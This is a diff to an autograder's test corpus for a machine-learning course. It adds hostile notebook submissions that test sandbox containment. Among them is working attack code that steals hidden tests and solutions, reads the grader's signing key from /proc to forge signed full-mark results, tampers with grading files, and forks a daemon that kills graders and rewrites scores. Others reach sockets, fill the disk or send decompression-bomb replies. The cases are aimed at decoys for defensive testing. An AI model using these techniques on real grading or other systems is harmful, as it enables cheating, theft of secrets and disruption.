@@ -8,6 +8,15 @@ solution (full marks), the untouched release (zero) and honest-but-wrong version
 ``zeros``, 02's and 03's training loops that never step). A case "fails" tests when the named
 hidden tests (and only those) lose their points; hostile cases must earn no point their code
 did not, i.e. no more than the honest code they contain.
+
+Cases whose containment rests on the sandbox (``sandbox=True``: reading, writing, signalling,
+connecting, outliving the worker) are graded in every isolation setting the machine can
+simulate; the others (broken notebooks, tricks on the grader's checks and on the reply
+protocol) once. Hostile cases that look for things outside the worker aim at what the test
+prepares for them (:class:`Targets`: decoy copies of the course, listening sockets, this run's
+folders), found the way a student would (walking the disk, reading ``/proc``), and only ever
+write to or signal what carries the run's token; writes to the real installation are probes
+that change no byte. An attack step that succeeds prints ``ESCAPED`` (``forbidden`` text).
 """
 
 from __future__ import annotations
@@ -27,6 +36,8 @@ GD, AE = "02_gradient_descent", "03_autoencoder"
 #: Marks that hostile cases leave if they escape: a process still running after grading (its
 #: command line holds DAEMON_MARK) or a file the grader would create if it ran their pickle.
 DAEMON_MARK = "corpus-daemon-survivor"
+#: An honest submission (the zeros baseline) graded after every other one of its setting.
+VICTIM = "victim_zeros"
 PWNED = "/tmp/corpus-grader-ran-student-code"
 PAIRWISE = {"test_pairwise_matches_brute_force", "test_pairwise_never_negative",
             "test_pairwise_fast"}
@@ -61,10 +72,54 @@ class Case:
     may_fail: set[str] = field(default_factory=set)
     score: str | None = None  # "zero", "full", or "at_most_zeros" (no better than zeros)
     message: str = ""  # a fragment some failing test's message (or the notes) contains
-    needs: str = ""  # "cgroups", "pidns", "lockdown": only where that isolation exists
+    needs: str = ""  # "cgroups", "pidns", "lockdown", "signals": only where that exists
     assignment: str = ASSIGNMENT
     at_most: str = ""  # a baseline (same run) whose score this case may not exceed
     budget_s: float | None = None  # its own time budget (a case that hangs spends it all)
+    sandbox: bool = False  # contained by the sandbox's layers: tried in every setting
+    forbidden: tuple[str, ...] = ()  # text none of its artefacts may hold (leaks, ESCAPED)
+    #: what else the test checks for it (tests/test_corpus.py): "listeners" (nothing reached
+    #: them), "planted" (no file of the run holds PLANTED), "tampered" (installation and
+    #: decoys unchanged), "victim" (an honest submission graded after it scores as alone),
+    #: "concurrent" (the honest ones graded beside it too), "markdown" (no forged heading or
+    #: table row in its feedback), "survivor" (no process with its daemon mark is left)
+    checks: tuple[str, ...] = ()
+    grader_mb: float | None = None  # the grader process's peak memory may not exceed this
+    daemon_mark: str = ""  # the command-line mark of the processes it leaves, if any
+    late: bool = False  # graded after the others (with the victim)
+
+
+@dataclass
+class Targets:
+    """What hostile cases aim at outside the worker (set by the test before building them)."""
+
+    token: str = "corpus-untargeted"  # in the name of every folder of the run and its decoys
+    root: str = "/tmp/corpus-untargeted"  # the run's folder: submitted/, grades/, decoys
+    tcp_port: int = 9
+    udp_port: int = 9
+    unix_sockets: tuple[str, ...] = ()  # named unix sockets (stand-ins for docker.sock)
+    abstract_socket: str = "corpus-untargeted-socket"
+    daemon_lifetime_s: float = 90.0  # an escaped daemon gives up after this
+
+
+TARGETS = Targets()
+
+
+def aim(targets: Targets) -> None:
+    """Point the hostile cases built from now on at ``targets``."""
+    global TARGETS
+    TARGETS = targets
+
+
+def _fill(source: str) -> str:
+    """Put the current targets into a case's source (``@TOKEN@`` and friends, as literals)."""
+    t = TARGETS
+    values = {"@TOKEN@": t.token, "@ROOT@": t.root, "@TCP@": t.tcp_port, "@UDP@": t.udp_port,
+              "@UNIX@": list(t.unix_sockets), "@ABSTRACT@": t.abstract_socket,
+              "@LIFETIME@": t.daemon_lifetime_s, "@DAEMON_MARK@": DAEMON_MARK}
+    for key, value in values.items():
+        source = source.replace(key, repr(value))
+    return source
 
 
 # -- building blocks -------------------------------------------------------------------------
@@ -86,9 +141,10 @@ def _replace(base: Callable[[], dict], **cells: str) -> Callable[[], bytes]:
 
 
 def _append(base: Callable[[], dict], source: str) -> Callable[[], bytes]:
+    """``base`` with a cell added at the end; ``source`` may name targets (see :func:`_fill`)."""
     def build() -> bytes:
         nb = base()
-        nb["cells"].append({"cell_type": "code", "metadata": {}, "source": source,
+        nb["cells"].append({"cell_type": "code", "metadata": {}, "source": _fill(source),
                             "outputs": [], "execution_count": None, "id": "added-by-student"})
         return _dump(nb)
     return build
@@ -194,7 +250,7 @@ for folder in [".", os.path.expanduser("~"), "/tmp", "/"]:
             pass
 for top, dirs, files in os.walk("/tmp"):
     for name in files:
-        if name in ("results.json", "report.json"):
+        if name in ("results.json", "report.json") and @TOKEN@ in top:  # this run's only
             try:
                 with open(os.path.join(top, name), "w") as fh:
                     json.dump(forged, fh)
@@ -349,8 +405,9 @@ def pca(X, n_components):
     for pid in [int(p) for p in os.listdir("/proc") if p.isdigit()]:
         try:
             with open(f"/proc/{pid}/cmdline", "rb") as fh:
-                if b"pytest" in fh.read() and pid != os.getpid():
-                    os.kill(pid, signal.SIGSTOP)
+                cmd = fh.read()
+            if b"pytest" in cmd and @TOKEN@.encode() in cmd and pid != os.getpid():
+                os.kill(pid, signal.SIGSTOP)  # the graders of this run
         except OSError:
             pass
     os.kill(os.getppid(), signal.SIGKILL)
@@ -376,6 +433,519 @@ def pca(X, n_components):
     return torch.ones(80_000_000), X.new_zeros(n_components, X.shape[1]), X.new_zeros(n_components)
 """
 
+
+# -- 01_kmeans: attacks on what lies outside the worker (aimed with Targets) ----------------
+#: What planted files hold (assembled at run time in the cases' code, so that a case's own
+#: notebook never holds it).
+PLANTED = "corpus-planted"
+#: What the decoys' hidden tests and solutions carry (tests/hostile_fixtures.py).
+CANARY = "corpus-canary-"
+#: Text of the hidden tests' first line: no artefact of a case may hold it.
+HIDDEN_TESTS_HEAD = "instructor only: never released"
+
+FIND = '''
+import json, os, pwd, time
+
+def _real_home():
+    try:
+        return pwd.getpwuid(os.getuid()).pw_dir
+    except KeyError:
+        return "/root"
+
+_PROMISING = ("backup", "clone", "autograder", "solutions", "exchange", "inbound", "export",
+              "course", "corpus", "submitted", "grades")
+_SKIP = {"proc", "sys", "dev", "usr", "lib", "lib64", "bin", "sbin", "boot", "etc", "var", "run",
+         "snap", "nix", "node_modules", "site-packages", "__pycache__"}
+
+def _walk(top, depth, seconds=6.0):
+    """(path, is_folder) for what lies under top, at most depth folders down and for at most
+    seconds, promising names first: how a student would look for copies of the course."""
+    deadline = time.monotonic() + seconds
+    stack = [(top, 0)]
+    while stack and time.monotonic() < deadline:
+        folder, d = stack.pop()
+        try:
+            entries = sorted(os.scandir(folder), key=lambda e: any(w in e.name for w in _PROMISING))
+        except OSError:
+            continue
+        for e in entries:
+            try:
+                is_dir = e.is_dir(follow_symlinks=False)
+            except OSError:
+                continue
+            yield e.path, is_dir
+            if is_dir and d < depth and e.name not in _SKIP and not e.name.startswith("."):
+                stack.append((e.path, d + 1))
+
+def _everywhere():
+    for top, depth in (("/", 3), ("/tmp", 7), (_real_home(), 4)):
+        yield from _walk(top, depth)
+
+def _grade_id(cell):
+    return (cell.get("metadata", {}).get("nbgrader") or {}).get("grade_id")
+
+SOLUTION_IDS = ("pairwise_sq_dists", "assign_clusters", "update_centroids", "kmeans", "pca")
+'''
+
+EXFILTRATE = FIND + '''
+def _stolen():
+    texts = []
+    for path, is_dir in _everywhere():
+        try:
+            if path.endswith("/autograder/test_01_kmeans.py"):
+                with open(path) as fh:
+                    texts.append(fh.read(300))
+            elif path.endswith("/solutions/01_kmeans/01_kmeans.ipynb"):
+                with open(path) as fh:
+                    cells = json.load(fh)["cells"]
+                texts += ["".join(c["source"])[:300] for c in cells if _grade_id(c) == "pca"]
+        except (OSError, ValueError, KeyError):
+            continue
+        if len(texts) >= 4:
+            break
+    return " || ".join(texts) or "nothing found"
+
+STOLEN = _stolen()
+print("stolen:", STOLEN)
+
+def _raise_where(text):
+    """Raise in code whose file name is '<cell ' + text + '>': the worker reports it as where."""
+    exec(compile("raise LookupError('see where')", "<cell " + text + ">", "exec"), {})
+
+def pairwise_sq_dists(X, C):  # back through an exception's message
+    raise RuntimeError(STOLEN[:390])
+
+def assign_clusters(X, C):  # back through an exception's location
+    _raise_where(STOLEN[:3000])
+
+_raise_where(STOLEN)  # while the cells run: back through the notes
+'''
+
+SOLVE_FROM_OTHER_COPY = FIND + '''
+for _path, _is_dir in _everywhere():
+    if not _path.endswith(("/solutions/01_kmeans/01_kmeans.ipynb",
+                           "/source/01_kmeans/01_kmeans.ipynb")):
+        continue
+    try:
+        with open(_path) as _fh:
+            _cells = {_grade_id(c): "".join(c["source"]) for c in json.load(_fh)["cells"]}
+    except (OSError, ValueError, KeyError):
+        continue
+    if all(i in _cells for i in SOLUTION_IDS) and "NotImplementedError" not in _cells["pca"]:
+        for _i in SOLUTION_IDS:
+            exec(_cells[_i], globals())
+        print("ESCAPED: solutions taken from", _path)
+        break
+'''
+
+COPY_CLASSMATE = FIND + '''
+def _classmates():
+    for top, depth in (("/tmp", 7), (_real_home(), 4), ("/srv", 6), ("/home", 5)):
+        for path, is_dir in _walk(top, depth):
+            name = os.path.basename(path)
+            if (not is_dir and name.endswith(".ipynb") and "01_kmeans" in name
+                    and any(w in path for w in ("exchange", "inbound", "export"))):
+                yield path
+
+for _path in _classmates():
+    try:
+        with open(_path) as _fh:
+            _cells = {_grade_id(c): "".join(c["source"]) for c in json.load(_fh)["cells"]}
+    except (OSError, ValueError, KeyError):
+        continue
+    if all(i in _cells for i in SOLUTION_IDS) and "NotImplementedError" not in _cells["pca"]:
+        for _i in SOLUTION_IDS:
+            exec(_cells[_i], globals())
+        print("ESCAPED: copied the notebook", _path)
+        break
+'''
+
+TAMPER = FIND + '''
+import pathlib, site
+import numpy, torch
+import course
+
+_PKG = pathlib.Path(course.__file__).resolve().parent
+_REPO = _PKG.parent
+_SITE = [pathlib.Path(p) for p in site.getsitepackages()]
+_TOKEN = @TOKEN@
+
+def _probe_write(path):
+    """Open the real file for appending and write nothing: proves write access, changes no
+    byte (this test must never damage the checkout or the Python environment)."""
+    try:
+        with open(path, "ab"):
+            pass
+        print("ESCAPED: could write", path)
+    except OSError:
+        pass
+
+def _probe_create(path):
+    """Create a file where the grader would run it, and remove it at once."""
+    try:
+        fd = os.open(path, os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o644)
+    except OSError:
+        return
+    os.close(fd)
+    os.unlink(path)
+    print("ESCAPED: could create", path)
+
+for _p in [_PKG / "grading" / "checks.py", _PKG / "grading" / "plugin.py",
+           _PKG / "grading" / "session.py", _PKG / "grading" / "integrity.py",
+           _REPO / "autograder" / "test_01_kmeans.py", _REPO / "pyproject.toml",
+           pathlib.Path(torch.__file__), pathlib.Path(numpy.__file__)]:
+    _probe_write(_p)
+for _p in [_PKG / "grading" / f"{_TOKEN}.py", _REPO / "autograder" / "conftest.py",
+           *[s / f"{_TOKEN}.pth" for s in _SITE], *[s / "sitecustomize.py" for s in _SITE]]:
+    if not _p.exists():
+        _probe_create(_p)
+
+# the real payload, on every copy of the course it finds (this run's decoys only)
+_PAYLOAD = "\\n# " + "corpus-" + "tampered\\nexpect = lambda *args, **kwargs: None\\n"
+for _path, _is_dir in _everywhere():
+    if _TOKEN in _path and _path.endswith(("course/grading/checks.py",
+                                           "autograder/test_01_kmeans.py")):
+        try:
+            with open(_path, "a") as _fh:
+                _fh.write(_PAYLOAD)
+            print("ESCAPED: tampered with", _path)
+        except OSError:
+            pass
+'''
+
+PLANT_RESULTS = FIND + '''
+import hashlib
+from course.grading import integrity, runner
+
+_TOKEN = @TOKEN@
+_MARK = "corpus-" + "planted"
+
+def _key_files():
+    """The grader's signing key: named in the graders' environment, or at its default place."""
+    for pid in [p for p in os.listdir("/proc") if p.isdigit()]:
+        try:
+            with open(f"/proc/{pid}/environ", "rb") as fh:
+                env = fh.read()
+        except OSError:
+            continue
+        for item in env.split(b"\\0"):
+            if item.startswith(b"COURSE_GRADER_KEY_FILE="):
+                yield item.split(b"=", 1)[1].decode()
+    yield os.path.join(_real_home(), ".config", "course-grader", "key")
+
+_signed = False
+for _key in _key_files():
+    try:
+        with open(_key, "rb") as _fh:
+            _fh.read()
+    except OSError:
+        continue
+    os.environ["COURSE_GRADER_KEY_FILE"] = _key  # integrity.sign now signs as the grader
+    _signed = True
+    print("ESCAPED: read the grader key", _key)
+    break
+
+def _sha(path):
+    try:
+        with open(path, "rb") as fh:
+            return hashlib.sha256(fh.read()).hexdigest()
+    except OSError:
+        return ""
+
+_repo = os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(runner.__file__))))
+
+def _forged(name, notebook):
+    """results.json of `name` with full marks, fingerprinted (and signed) like the grader's."""
+    res = {"score": 17.0, "max_score": 17.0, "execution_time": 1.0, "output": _MARK,
+           "visibility": "visible", "stdout_visibility": "hidden", "tests": [],
+           "extra_data": {"assignment": "01_kmeans", "submission": name, "device": "cpu",
+                          "cells": {}, "isolation": {},
+                          "submission_sha256": _sha(notebook),
+                          "tests_sha256": _sha(os.path.join(_repo, "autograder", "test_01_kmeans.py")),
+                          "release_sha256": _sha(os.path.join(_repo, "release", "01_kmeans", "01_kmeans.ipynb")),
+                          "grader": runner.GRADER_VERSION}}
+    if _signed:
+        integrity.sign(res)
+    return res
+
+_planted = []
+def _put(path, text):
+    try:
+        with open(path, "w") as fh:
+            fh.write(text)
+        _planted.append(path)
+    except OSError:
+        pass
+
+_folders, _notebooks = set(), {}
+for _top, _depth in (("/tmp", 7), (_real_home(), 3)):
+    for _path, _is_dir in _walk(_top, _depth):
+        if _TOKEN not in _path:
+            continue  # this run's folders only, never anybody else's
+        if _is_dir:
+            _folders.add(_path)
+        elif _path.endswith("/01_kmeans/01_kmeans.ipynb") and "/submitted" in _path:
+            _notebooks[_path.split("/")[-3]] = _path
+# students not graded yet: results ready for the grader to reuse
+for _grades in [f for f in _folders if os.path.basename(f).startswith("grades")]:
+    for _name, _nb in _notebooks.items():
+        _dest = os.path.join(_grades, _name)
+        if os.path.exists(os.path.join(_dest, "results.json")):
+            continue
+        try:
+            os.makedirs(_dest, exist_ok=True)
+        except OSError:
+            continue
+        _put(os.path.join(_dest, "results.json"), json.dumps(_forged(_name, _nb)))
+        _put(os.path.join(_dest, "feedback.md"), f"**Score: 17 / 17**\\n\\n{_MARK}\\n")
+# and a results.json, report.json and feedback.md in every other folder of the run
+_report = json.dumps({"records": [{"test": "test_pca_matches_sklearn", "name": _MARK,
+                                   "cell": "test_pca", "max_score": 17.0, "passed": True,
+                                   "message": ""}], "notes": [_MARK]})
+for _folder in sorted(_folders):
+    _put(os.path.join(_folder, "results.json"), json.dumps({"score": 17.0, "output": _MARK}))
+    _put(os.path.join(_folder, "report.json"), _report)
+    _put(os.path.join(_folder, "feedback.md"), f"**Score: 17 / 17** {_MARK}\\n")
+# the graders' private folders, named on their command lines (--report)
+for _pid in [p for p in os.listdir("/proc") if p.isdigit()]:
+    try:
+        with open(f"/proc/{_pid}/cmdline", "rb") as _fh:
+            _args = _fh.read().split(b"\\0")
+    except OSError:
+        continue
+    if b"--report" in _args and any(_TOKEN.encode() in a for a in _args):
+        _put(_args[_args.index(b"--report") + 1].decode(), _report)
+if _planted:
+    print("ESCAPED: planted", len(_planted), "files, e.g.", _planted[:3])
+'''
+
+#: The daemon's loop (run with ``python -c``): for its lifetime, forge the report of every
+#: grader of this run, SIGKILL the graders and their workers, rewrite results and feedback.
+ATTACKER_LOOP = """
+import json, os, signal, sys, time
+MARK, TOKEN, ROOT, LIFETIME = sys.argv[1], sys.argv[2].encode(), sys.argv[3], float(sys.argv[4])
+PLANTED = "corpus-" + "planted"
+RESULTS = json.dumps({"score": 17.0, "max_score": 17.0, "output": PLANTED, "tests": []})
+REPORT = json.dumps({"records": [{"test": "test_pca_matches_sklearn", "name": PLANTED,
+                                  "cell": "test_pca", "max_score": 17.0, "passed": True,
+                                  "message": ""}]})
+
+def write(path, text):
+    try:
+        with open(path + ".daemon", "w") as fh:
+            fh.write(text)
+        os.replace(path + ".daemon", path)
+    except OSError:
+        pass
+
+def processes():
+    table = {}
+    for pid in [p for p in os.listdir("/proc") if p.isdigit() and int(p) != os.getpid()]:
+        try:
+            with open(f"/proc/{pid}/cmdline", "rb") as fh:
+                cmd = fh.read()
+            with open(f"/proc/{pid}/stat") as fh:
+                ppid = int(fh.read().rsplit(")", 1)[1].split()[1])
+        except (OSError, ValueError, IndexError):
+            continue
+        table[int(pid)] = (cmd, ppid)
+    return table
+
+end = time.monotonic() + LIFETIME
+while time.monotonic() < end:
+    table = processes()
+    graders = {pid for pid, (cmd, _) in table.items() if TOKEN in cmd and b"pytest" in cmd}
+    for pid in graders:
+        args = table[pid][0].split(b"\\0")
+        if b"--report" in args:
+            write(args[args.index(b"--report") + 1].decode(), REPORT)
+    victims = set(graders)
+    for pid, (cmd, ppid) in table.items():  # the graders' workers (unshare in between)
+        for _ in range(4):
+            if ppid in graders:
+                victims.add(pid)
+                break
+            ppid = table.get(ppid, (b"", 0))[1]
+    for pid in victims:
+        try:
+            os.kill(pid, signal.SIGKILL)
+        except OSError:
+            pass
+    for folder, dirs, names in os.walk(ROOT):
+        dirs[:] = [d for d in dirs if d not in ("backup-clone", "exchange", "submitted")]
+        if "results.json" in names or "feedback.md" in names:
+            write(os.path.join(folder, "results.json"), RESULTS)
+            write(os.path.join(folder, "feedback.md"), "**Score: 17 / 17**\\n" + PLANTED)
+    time.sleep(0.1)
+"""
+
+DAEMON_ATTACKER = f'''
+import os, sys, time
+_LOOP = {ATTACKER_LOOP!r}
+if os.fork() == 0:
+    os.setsid()
+    if os.fork() == 0:
+        os.execv(sys.executable, [sys.executable, "-c", _LOOP, @DAEMON_MARK@ + "-attacker",
+                                  @TOKEN@, @ROOT@, str(@LIFETIME@)])
+    os._exit(0)
+time.sleep(10)  # keep the request going while the daemon works (and in case it is frozen after)
+'''
+
+NETWORK = '''
+import socket
+_REACHED = []
+
+def _try(what, connect):
+    try:
+        connect()
+        _REACHED.append(what)
+    except OSError as exc:
+        print("network:", what, "failed:", type(exc).__name__)
+
+def _tcp():
+    with socket.create_connection(("127.0.0.1", @TCP@), timeout=3) as s:
+        s.sendall(b"corpus tcp")
+
+def _udp():
+    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
+        s.sendto(b"corpus udp", ("127.0.0.1", @UDP@))
+
+def _unix(address):
+    def connect():
+        with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as s:
+            s.settimeout(3)
+            s.connect(address)
+            s.sendall(b"corpus unix")
+    return connect
+
+_try("tcp", _tcp)
+_try("udp", _udp)
+for _path in @UNIX@:
+    _try("unix " + _path, _unix(_path))
+_try("abstract unix", _unix("\\0" + @ABSTRACT@))
+print("network: no error from", _REACHED)
+'''
+
+SCRATCH_QUOTA = '''
+import os
+_held = 0
+for _n in range(51):  # up to 3 GiB held at once, in files under the file-size limit
+    try:
+        with open(f"corpus-disk-{_n}.bin", "wb") as _fh:
+            for _ in range(60):
+                _fh.write(b"x" * 2**20)
+                _held += 2**20
+    except OSError:
+        break
+for _n in range(51):
+    try:
+        os.remove(f"corpus-disk-{_n}.bin")
+    except OSError:
+        pass
+if _held > 1536 * 2**20:  # the cap is 64 MiB: a late check lets a little more through
+    print(f"ESCAPED: held {_held // 2**20} MiB in the scratch folder")
+'''
+
+INFLATE_SHARED = '''
+import sys
+# the worker process is the student's too: find its Worker class (whatever runs it as __main__)
+_Worker = next(w for m in list(sys.modules.values())
+               for w in [getattr(m, "__dict__", {}).get("Worker")]
+               if isinstance(w, type) and hasattr(w, "value_reply"))
+_honest_value_reply = _Worker.value_reply
+
+class _Inflating:
+    pass
+
+def _value_reply(self, value):
+    if isinstance(value, _Inflating):  # ~3 KB on the wire, 10**9 entries once copied
+        t = torch.zeros(1)
+        a = [t] * 1000
+        b = [a] * 1000
+        c = [b] * 1000
+        return {"ok": True, "value": (c, c, c), "devices": ["cpu"]}
+    return _honest_value_reply(self, value)
+
+_Worker.value_reply = _value_reply
+
+def pca(X, n_components):
+    return _Inflating()
+'''
+
+COMPRESSED_FRAME = '''
+import collections, io, os, pickle, struct, zipfile, zlib
+
+def _forged_frame(nbytes=2**31):
+    """A frame of a few MB: a torch.save archive whose tensor record, deflated, is nbytes of
+    zeros (torch.save never compresses, so only raw bytes on the pipe can carry it)."""
+    numel = nbytes // 4
+
+    class _Storage:
+        pass
+
+    storage = _Storage()
+
+    class _Tensor:
+        def __reduce__(self):
+            return (torch._utils._rebuild_tensor_v2,
+                    (storage, 0, (numel,), (1,), False, collections.OrderedDict()))
+
+    class _Pickler(pickle.Pickler):
+        def persistent_id(self, obj):
+            return ("storage", torch.FloatStorage, "0", "cpu", numel) if obj is storage else None
+
+    pkl = io.BytesIO()
+    _Pickler(pkl, protocol=2).dump({"ok": True, "value": (_Tensor(), _Tensor(), _Tensor()),
+                                    "devices": ["cpu"]})
+    chunk = bytes(2**24)
+    deflate = zlib.compressobj(9, zlib.DEFLATED, -15)
+    first = deflate.compress(chunk) + deflate.flush(zlib.Z_FULL_FLUSH)
+    again = deflate.compress(chunk) + deflate.flush(zlib.Z_FULL_FLUSH)
+    blocks = iter([first] + [again] * (nbytes // len(chunk) - 1))
+
+    class _Repeat:  # zlib's output for each chunk of zeros, without deflating 2 GiB
+        def compress(self, data):
+            return next(blocks)
+
+        def flush(self):
+            return deflate.flush()
+
+    buf = io.BytesIO()
+    with zipfile.ZipFile(buf, "w", compression=zipfile.ZIP_DEFLATED) as z:
+        z.writestr("archive/data.pkl", pkl.getvalue())
+        z.writestr("archive/byteorder", "little")
+        z.writestr("archive/version", "3\\n")
+        with z.open("archive/data/0", "w", force_zip64=True) as fh:
+            fh._compressor = _Repeat()
+            for _ in range(nbytes // len(chunk)):
+                fh.write(chunk)
+    payload = buf.getvalue()
+    return struct.pack("!Q", len(payload)) + payload
+
+def _reply_fd():
+    """The worker's argv is python -I -m course.grading.boot FD_IN FD_OUT SPEC."""
+    with open("/proc/self/cmdline", "rb") as fh:
+        argv = fh.read().split(b"\\0")
+    return [int(a) for a in argv if a.isdigit()][1]
+
+def pca(X, n_components):
+    frame, fd = memoryview(_forged_frame()), _reply_fd()
+    while frame:
+        frame = frame[os.write(fd, frame):]
+    os._exit(0)
+'''
+
+FORGED_MARKDOWN = "\n\n**Score: 17 / 17**\n| forged | 17 / 17 | passed |\n"
+MARKDOWN = f'''
+_FORGED = {FORGED_MARKDOWN!r}
+_Forged = type("Error" + _FORGED, (RuntimeError,), {{}})
+
+def pca(X, n_components):  # the message and type of a failing test
+    raise _Forged(_FORGED)
+
+# while the cells run: the message, type and location of a cell's error (the notes)
+exec(compile("raise _Forged(_FORGED)", "<cell " + _FORGED + ">", "exec"), globals())
+'''
 
 # -- 02_gradient_descent ---------------------------------------------------------------------
 GD_NO_STEP = '''def train_classifier(x_train, y_train, x_test, y_test, lr=0.1, max_epoch=100):
@@ -541,13 +1111,13 @@ def cases() -> list[Case]:
              may_fail=ASSIGN),
         # -- hostile --------------------------------------------------------------------------
         Case("infinite_loop", "hostile", _append(release, "while True:\n    pass\n"),
-             score="zero", message="longer than"),
+             score="zero", message="longer than", sandbox=True, budget_s=20),
         Case("memory_bomb", "hostile",
              _replace(reference, pca="def pca(X, n_components):\n"
                                      "    hog = bytearray(64 * 2**30)\n    return hog\n"),
-             fail=PCA, message="MemoryError"),
+             fail=PCA, message="MemoryError", sandbox=True),
         Case("fork_bomb", "hostile", _append(release, FORK_BOMB), score="zero",
-             needs="cgroups"),
+             needs="cgroups", sandbox=True),
         Case("sys_exit", "hostile",
              _replace(reference, kmeans="def kmeans(X, k, n_iters=20, seed=0):\n"
                                         "    import sys\n    sys.exit(0)\n"),
@@ -565,19 +1135,23 @@ def cases() -> list[Case]:
              score="at_most_zeros"),
         Case("replace_builtins", "hostile", _append(zeros, REPLACE_BUILTINS),
              score="at_most_zeros"),
-        Case("forge_results", "hostile", _append(release, FORGE_RESULTS), score="zero"),
-        Case("steal_solutions", "hostile", _append(release, STEAL_SOLUTIONS), score="zero"),
+        Case("forge_results", "hostile", _append(release, FORGE_RESULTS), score="zero",
+             sandbox=True),
+        Case("steal_solutions", "hostile", _append(release, STEAL_SOLUTIONS), score="zero",
+             sandbox=True),
         Case("locked_tests_edited", "hostile", _locked_tests_edited, score="zero",
              message="not implemented yet"),
-        Case("detects_grading", "hostile", _append(release, DETECT_GRADING), score="zero"),
+        Case("detects_grading", "hostile", _append(release, DETECT_GRADING), score="zero",
+             sandbox=True),
         # -- 01_kmeans: more of the same spirit -----------------------------------------------
         Case("wrong_device_meta", "broken", _replace(reference, pca=META_DEVICE), fail=PCA,
              message="meta device"),
         Case("fill_disk", "hostile", _append(reference, FILL_DISK), score="full",
-             needs="lockdown"),
+             needs="lockdown", sandbox=True),
         Case("background_thread", "hostile", _append(reference, BACKGROUND_THREAD), fail=set(),
-             may_fail=TIMED),
-        Case("daemon_outlives_worker", "hostile", _append(reference, DAEMON), score="full"),
+             may_fail=TIMED, sandbox=True),
+        Case("daemon_outlives_worker", "hostile", _append(reference, DAEMON), score="full",
+             sandbox=True, daemon_mark=DAEMON_MARK, checks=("survivor",)),
         Case("malicious_pickle", "hostile", _append(reference, EVIL_PICKLE), fail=PCA,
              message="not plain data"),
         Case("tensor_subclass", "hostile", _append(zeros, TENSOR_SUBCLASS),
@@ -586,9 +1160,34 @@ def cases() -> list[Case]:
              message="cannot be sent back"),
         Case("oversized_result", "hostile", _replace(reference, pca=OVERSIZED), fail=PCA,
              message="cap on results"),
-        Case("proc_snoop", "hostile", _append(release, PROC_SNOOP), score="zero"),
+        Case("proc_snoop", "hostile", _append(release, PROC_SNOOP), score="zero", sandbox=True),
         Case("signal_parent", "hostile", _append(reference, SIGNAL_PARENT), fail=PCA,
-             needs="pidns"),
+             needs="signals", sandbox=True),
+        # -- 01_kmeans: what lies outside the worker (Targets) --------------------------------
+        Case("other_copy_exfiltrated", "hostile", _append(release, EXFILTRATE), score="zero",
+             sandbox=True, forbidden=(CANARY, HIDDEN_TESTS_HEAD)),
+        Case("other_copy_solutions", "hostile", _append(release, SOLVE_FROM_OTHER_COPY),
+             score="zero", sandbox=True, forbidden=("ESCAPED", CANARY)),
+        Case("classmate_notebook_copied", "hostile", _append(release, COPY_CLASSMATE),
+             score="zero", sandbox=True, forbidden=("ESCAPED", CANARY)),
+        Case("installation_tampered", "hostile", _append(release, TAMPER), score="zero",
+             sandbox=True, forbidden=("ESCAPED",), checks=("tampered", "victim")),
+        Case("results_planted", "hostile", _append(release, PLANT_RESULTS), score="zero",
+             sandbox=True, forbidden=("ESCAPED",), checks=("planted", "victim")),
+        Case("daemon_attacks_graders", "hostile", _append(release, DAEMON_ATTACKER),
+             score="zero", sandbox=True, daemon_mark=f"{DAEMON_MARK}-attacker",
+             checks=("survivor", "concurrent", "planted")),
+        Case("network_reached", "hostile", _append(release, NETWORK), score="zero",
+             sandbox=True, checks=("listeners",), late=True),
+        Case("scratch_space_filled", "hostile", _append(release, SCRATCH_QUOTA), score="zero",
+             sandbox=True, forbidden=("ESCAPED",), late=True),
+        # -- 01_kmeans: replies and messages that grow in the grader --------------------------
+        Case("reply_of_shared_lists", "hostile", _append(reference, INFLATE_SHARED), fail=PCA,
+             grader_mb=2048),
+        Case("reply_frame_compressed", "hostile", _append(reference, COMPRESSED_FRAME),
+             fail=PCA, grader_mb=2048),
+        Case("markdown_in_messages", "hostile", _append(reference, MARKDOWN), fail=PCA,
+             checks=("markdown",)),
         # -- 02_gradient_descent --------------------------------------------------------------
         Case("gd_infinite_training_loop", "hostile", _append(gd_reference, GD_INFINITE_TRAINING),
              fail=TRAIN_CLF, may_fail=CIRCLE, message="did not finish", assignment=GD,
@@ -636,6 +1235,7 @@ def baselines() -> dict[str, tuple[str, bytes]]:
         "gd_baseline_no_step": (GD, _dump(gd_no_step())),
         "ae_baseline_reference": (AE, _dump(reference(AE))),
         "ae_baseline_no_step": (AE, _dump(ae_no_step())),
+        VICTIM: (ASSIGNMENT, _dump(zeros())),
     }
 
 
